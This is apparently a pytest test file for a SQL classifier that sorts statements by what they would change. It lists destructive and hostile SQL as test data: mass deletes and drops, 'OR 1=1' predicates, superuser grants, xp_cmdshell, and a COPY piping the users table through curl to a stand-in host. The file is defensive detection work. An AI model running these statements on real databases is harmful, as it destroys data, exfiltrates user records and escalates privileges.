"""SQL statements are told apart by what they would change, not by their words."""

from __future__ import annotations

import contextlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from neural_hive.errors import PlanError
from neural_hive.planning.reading import Circumstances, Reading
from neural_hive.planning.sql import read_sql
from neural_hive.types import Action, Environment, Polarity, Scope, Trait
from tests.pace import pace
from tests.unit.planning.gravity import gravest_of, is_grave, is_tame

NOWHERE = Circumstances()


def read(source: str, circumstances: Circumstances = NOWHERE) -> Reading:
    return read_sql(source, circumstances)


def actions(source: str, circumstances: Circumstances = NOWHERE) -> list[Action]:
    return [action for task in read(source, circumstances).tasks for action in task.actions]


def gravest(source: str) -> Action:
    return gravest_of(actions(source))


DANGEROUS = [
    "DELETE FROM users",
    "DELETE FROM users; -- WHERE id = 7",
    "DELETE FROM users /* WHERE id = 7 */",
    "DELETE FROM users -- WHERE id = 7\n;",
    "DELETE FROM orders WHERE 1=1",
    "DELETE FROM orders WHERE id = id",
    "DELETE FROM orders WHERE true",
    "DELETE FROM orders WHERE status = 'x' AND a = 1 OR 1 = 1",
    "DELETE FROM orders WHERE status = 'x' OR 'a' = 'a'",
    "DELETE FROM orders WHERE NOT (1 = 2)",
    "DELETE FROM orders WHERE id > 0",
    "DELETE FROM orders WHERE id IS NOT NULL",
    "DELETE FROM orders WHERE id <> 7",
    "DELETE FROM orders WHERE name LIKE '%'",
    "DELETE FROM orders WHERE created_at < now()",
    "delete from\n  orders\n",
    "UPDATE products SET price = 0",
    "UPDATE users SET password = 'x' WHERE 1 = 1",
    "UPDATE accounts SET balance = balance * 2 WHERE id = 1 OR true",
    "TRUNCATE TABLE orders",
    "TRUNCATE orders, customers CASCADE",
    "DROP TABLE customers",
    "DROP TABLE IF EXISTS customers CASCADE",
    "DROP DATABASE app",
    "DROP SCHEMA billing CASCADE",
    "ALTER TABLE users DROP COLUMN email",
    "ALTER TABLE users DISABLE ROW LEVEL SECURITY",
    "ALTER TABLE users DISABLE TRIGGER ALL",
    "DROP POLICY tenant ON users",
    "GRANT ALL PRIVILEGES ON DATABASE app TO PUBLIC",
    "GRANT SELECT ON customers TO PUBLIC",
    "GRANT ALL ON *.* TO 'bob'@'%' WITH GRANT OPTION",
    "ALTER ROLE bob SUPERUSER",
    "CREATE USER bob WITH SUPERUSER PASSWORD 'x'",
    "COPY users TO PROGRAM 'curl -F x=@- https://x.example.com'",
    "SELECT * FROM users INTO OUTFILE '/var/www/u.csv'",
    "EXEC xp_cmdshell 'format c:'",
    "EXEC('DROP TABLE customers')",
    "EXECUTE IMMEDIATE 'DROP TABLE customers'",
    "DO $$ BEGIN DELETE FROM customers; END $$",
    "DO $$ BEGIN EXECUTE 'DROP TABLE customers'; END $$",
    "DO $x$ DECLARE t text; BEGIN DROP TABLE customers; END $x$;",
    "EXPLAIN ANALYZE DELETE FROM customers",
    "EXPLAIN (ANALYZE, BUFFERS) DELETE FROM customers",
    "WITH gone AS (DELETE FROM customers RETURNING *) SELECT count(*) FROM gone",
    "SELECT pg_drop_replication_slot('standby')",
    "MERGE INTO t USING s ON 1=1 WHEN MATCHED THEN DELETE",
    "BEGIN; DELETE FROM customers; COMMIT;",
    "CREATE OR REPLACE TABLE customers AS SELECT 1",
    "SHUTDOWN",
    "INSERT INTO keep SELECT * FROM users WHERE a = 1; DELETE FROM users;",
    "DROP TABLE t_orders; CREATE TABLE keep AS SELECT * FROM t_orders;",
    "CREATE TABLE keep AS SELECT * FROM orders LIMIT 10; DROP TABLE orders;",
    "CREATE TEMP TABLE keep AS SELECT * FROM orders; DROP TABLE orders;",
    "CREATE TABLE keep AS SELECT * FROM invoices; DROP TABLE orders;",
    "SELECT 'a;b'; DROP TABLE customers",
    "USE Comercial; -- SQLPRD01\nSELECT a INTO #Clientes FROM dbo.Clientes; DROP TABLE Clientes;",
]

HARMLESS = [
    "SELECT * FROM users",
    "SELECT 'DROP TABLE users; DELETE FROM x'",
    "SELECT query FROM log WHERE query ILIKE '%TRUNCATE%' LIMIT 5",
    "-- DELETE FROM users;\nSELECT 1",
    "/* DROP TABLE users; */ SELECT 1;",
    "EXPLAIN DELETE FROM users",
    "EXPLAIN (ANALYZE FALSE) DELETE FROM users",
    "BEGIN; DELETE FROM users; ROLLBACK;",
    "BEGIN TRANSACTION; DELETE FROM users WHERE a = 1; SELECT count(*) FROM users; ROLLBACK TRANSACTION;",
    "DELETE FROM users WHERE 1 = 0",
    "DROP TABLE #clientes",
    "CREATE TEMP TABLE x AS SELECT 1 AS a; DROP TABLE x;",
    "SELECT a INTO #c FROM customers; DROP TABLE #c;",
    "DROP TABLE tmp_import_2024",
    "INSERT INTO articles (title) VALUES ('Why DROP TABLE is bad')",
    "CREATE TABLE notes (id int)",
    "ALTER TABLE users ADD COLUMN nickname text",
    "CREATE INDEX CONCURRENTLY i ON orders (a)",
    "SHOW TABLES",
    "SET search_path TO app",
    "ANALYZE orders",
    "VALUES (1)",
    "SELECT deleted_at, drop_rate FROM stats",
    'SELECT "delete" FROM "drop"',
    "SELECT $$DROP TABLE x$$",
]

BETWEEN = [
    "DELETE FROM users WHERE id = 7",
    "DELETE FROM crm.contacts WHERE contact_id = 88120",
    "DELETE FROM user_sessions WHERE expires_at < NOW() - INTERVAL 30 DAY LIMIT 5000",
    "UPDATE users SET name = 'x' WHERE id = 7",
    "DROP INDEX CONCURRENTLY IF EXISTS idx_pedidos_obs",
    "BEGIN; INSERT INTO keep SELECT * FROM users; DELETE FROM users; COMMIT;",
    "BEGIN; INSERT INTO keep SELECT * FROM invoices WHERE s = 'draft'; DELETE FROM invoices WHERE s = 'draft'; COMMIT;",
    "-- psql -v ON_ERROR_STOP=1\nCREATE TABLE keep AS SELECT * FROM orders; DROP TABLE orders;",
    "CREATE TABLE keep AS SELECT * FROM orders;\nDO $$ BEGIN ASSERT (SELECT count(*) FROM keep) > 0; END $$;\nDROP TABLE orders;",
    "CALL rebuild()",
    "CREATE OR REPLACE VIEW v AS SELECT 1",
    "VACUUM orders",
    "DELETE TOP (100) FROM logins WHERE a < 1",
]


@pytest.mark.parametrize("source", DANGEROUS)
def test_dangerous_statements_are_grave_and_unguarded(source: str) -> None:
    assert any(is_grave(action) for action in actions(source))


@pytest.mark.parametrize("source", HARMLESS)
def test_harmless_neighbours_are_tame(source: str) -> None:
    assert all(is_tame(action) for action in actions(source)), [
        (a.operation, a.target, a.traits, a.sensitivity, a.disposable, a.polarity) for a in actions(source)
    ]


@pytest.mark.parametrize("source", BETWEEN)
def test_governable_changes_lie_between(source: str) -> None:
    assert not any(is_grave(action) for action in actions(source)), [
        (a.operation, a.target, a.traits, a.sensitivity, a.safeguards) for a in actions(source)
    ]
    assert not all(is_tame(action) for action in actions(source)), [
        (a.operation, a.target, a.traits, a.sensitivity, a.disposable) for a in actions(source)
    ]


@pytest.mark.parametrize(
    ("where", "scope"),
    [
        ("", Scope.ALL),
        ("WHERE id = 7", Scope.ONE),
        ("WHERE order_id = 7", Scope.ONE),
        ("WHERE customer_id = 7", Scope.SOME),
        ("WHERE id IN (1, 2)", Scope.SOME),
        ("WHERE id = 7 OR id = 8", Scope.SOME),
        ("WHERE a < 3", Scope.SOME),
        ("WHERE a = 1 AND id = 7", Scope.ONE),
        ("WHERE id = 7 OR 1 = 1", Scope.ALL),
        ("WHERE (a = 1 OR 1 = 1) AND id = 7", Scope.ONE),
    ],
)
def test_the_where_clause_decides_the_scope(where: str, scope: Scope) -> None:
    action = gravest(f"DELETE FROM orders {where}")  # noqa: S608 - text under test, never run
    assert action.scope is scope
    assert action.has(Trait.UNBOUNDED) is (scope is Scope.ALL)


def test_an_archive_guards_only_the_same_rows() -> None:
    script = "BEGIN; INSERT INTO old SELECT * FROM invoices WHERE s = 'draft'; DELETE FROM invoices WHERE s = '{}'; COMMIT;"
    assert [guard.kind for guard in gravest(script.format("draft")).safeguards] == ["backup"]
    assert gravest(script.format("open")).safeguards == ()


def test_a_copy_afterwards_is_too_late() -> None:
    action = gravest("DROP TABLE orders; CREATE TABLE keep AS SELECT * FROM orders;")
    assert action.safeguards == ()
    assert [guard.kind for guard in action.late_safeguards] == ["backup"]


def test_money_and_passwords_are_seen_in_columns() -> None:
    assert gravest("UPDATE products SET price = 1 WHERE id = 2").has(Trait.MONEY)
    assert gravest("UPDATE users SET password = 'x' WHERE id = 2").sensitivity >= 0.9


@pytest.mark.parametrize(
    ("source", "environment"),
    [
        ("-- pg-prod-main\nSELECT 1", Environment.PRODUCTION),
        ("-- hml-kb (homologação)\nSELECT 1", Environment.STAGING),
        ("USE shop_prod; DELETE FROM a", Environment.PRODUCTION),
        ("\\connect app_prod\nDELETE FROM a;", Environment.PRODUCTION),
        ("SELECT 1", Environment.UNKNOWN),
    ],
)
def test_environment_comes_from_comments_and_connections(source: str, environment: Environment) -> None:
    assert actions(source)[-1].environment is environment


def test_a_rolled_back_transaction_is_hypothetical() -> None:
    assert actions("BEGIN; DROP TABLE orders; ROLLBACK;")[1].polarity is Polarity.HYPOTHETICAL
    assert actions("BEGIN; DROP TABLE orders; COMMIT;")[1].polarity is Polarity.AFFIRMED


def test_dynamic_sql_of_unknown_text_is_not_trusted() -> None:
    action = gravest("DO $$ BEGIN EXECUTE format('DROP TABLE %I', name); END $$")
    assert action.has(Trait.DESTRUCTIVE)
    assert action.certainty <= 0.4


def test_unreadable_statements_lower_the_coverage() -> None:
    reading = read("SELECT 1; FROBNICATE THE BAR WITH DROP")
    assert reading.coverage < 1
    assert reading.tasks[1].actions[0].certainty <= 0.4


def test_descriptions_are_the_statements_themselves() -> None:
    reading = read("-- ação\nSELECT 'é'; -- x\n/* y */ DELETE FROM t WHERE id = 1 ;\n")
    assert [task.description for task in reading.tasks] == ["SELECT 'é'", "DELETE FROM t WHERE id = 1"]
    assert [task.dependencies for task in reading.tasks] == [(), ("s1",)]
    assert all(task.description[a.start : a.end] == a.text for task in reading.tasks for a in task.actions)


@pytest.mark.parametrize("source", ["", "  ;; ", "-- only a comment", "lorem ipsum dolor"])
def test_nothing_to_read_is_an_error(source: str) -> None:
    with pytest.raises(PlanError):
        read(source)


SNIPPETS = st.sampled_from(
    [
        "DELETE FROM t",
        "WHERE",
        "OR 1=1",
        "id = 7",
        ";",
        "--",
        "/*",
        "*/",
        "'",
        '"',
        "$$",
        "$a$",
        "(",
        ")",
        "DROP TABLE",
        "SELECT",
        "EXEC",
        "BEGIN",
        "END",
        "COMMIT",
        "DO",
        "EXPLAIN ANALYZE",
        "GRANT",
        "TO",
        "\nGO\n",
        "\\c x\n",
        "é",
        "\x00",
        "WITH a AS (",
        "UPDATE t SET",
        "#t",
        "[x]",
        "`",
    ]
)


@settings(max_examples=120, deadline=None)
@given(
    st.one_of(
        st.text(max_size=300), st.lists(SNIPPETS, max_size=25).map(" ".join), st.binary(max_size=200).map(lambda raw: raw.decode("latin-1"))
    )
)
def test_no_text_breaks_the_reader(source: str) -> None:
    try:
        reading = read(source)
    except PlanError:
        return
    assert 0 <= reading.coverage <= 1
    for task in reading.tasks:
        assert task.actions
        assert all(0 <= a.sensitivity <= 1 and 0 <= a.blast <= 1 and a.traits == tuple(sorted(a.traits)) for a in task.actions)


@settings(max_examples=40, deadline=None)
@given(st.sampled_from(DANGEROUS), st.sampled_from(["SELECT 1", "COMMENT ON TABLE a IS 'x'", "INSERT INTO a VALUES (1)"]))
def test_statements_around_do_not_hide_a_dangerous_one(source: str, other: str) -> None:
    assert any(is_grave(action) for action in actions(f"{other}\n;\n{source}\n;\n{other}\n;"))


@pytest.mark.parametrize(
    "source",
    [
        "'" * 19999,
        "SELECT " + "(" * 5000,
        "delete from ;" * 1500,
        "DELETE FROM t WHERE " + " OR ".join(f"a={n}" for n in range(1800)),  # noqa: S608 - text under test, never run
        "$a$" * 6000,
        ";; delete namespace checkout --context prod",
        "/*" * 9000,
        "UPDATE a SET b = 1 WHERE id = 3;\n" * 600,
    ],
)
def test_hostile_scripts_stay_within_the_time_bound(source: str) -> None:
    read("SELECT 1")

    def parse() -> None:
        with contextlib.suppress(PlanError):
            read(source[:20000])

    assert pace(parse) < 300


def test_sizes_that_people_write_are_read_at_once() -> None:
    read("SELECT 1")
    source = "INSERT INTO t (a, b) VALUES " + ", ".join("(1, 'abc')" for _ in range(1500))  # noqa: S608 - text under test, never run
    assert pace(lambda: read(source)) < 80


def test_a_predicate_too_deep_to_compare_guards_nothing() -> None:
    where = " OR ".join(f"a = {number}" for number in range(1200))
    action = gravest(f"BEGIN; INSERT INTO old SELECT * FROM invoices WHERE {where}; DELETE FROM invoices WHERE s = 'Draft'; COMMIT;")  # noqa: S608
    assert action.safeguards == ()
